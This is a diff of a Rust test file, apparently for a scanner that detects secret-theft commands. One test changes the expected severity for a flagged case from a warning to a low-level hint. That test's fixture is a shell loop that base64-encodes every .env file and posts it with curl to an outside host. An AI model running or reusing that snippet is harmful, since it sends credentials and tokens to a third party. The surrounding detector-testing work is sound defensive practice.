@@ -164,10 +164,13 @@ fn thefts_by_commands_are_flags_and_their_twins_are_none() {
 }
 
 #[test]
-fn a_file_of_variables_that_is_sent_is_a_warning() {
+fn a_file_of_variables_that_is_sent_is_a_hint() {
     let code = "for f in $(find . -name '.env*'); do\n  x=$(base64 < \"$f\")\n  curl -d \"$x\" https://a.dev\ndone";
     let hits = found(&[("main.sh", code)]);
-    assert!(hits.len() == 1 && hits[0].starts_with("Warn"), "{hits:?}");
+    assert!(
+        hits.len() == 1 && hits[0].starts_with("Hint(0)"),
+        "{hits:?}"
+    );
 }
 
 #[test]
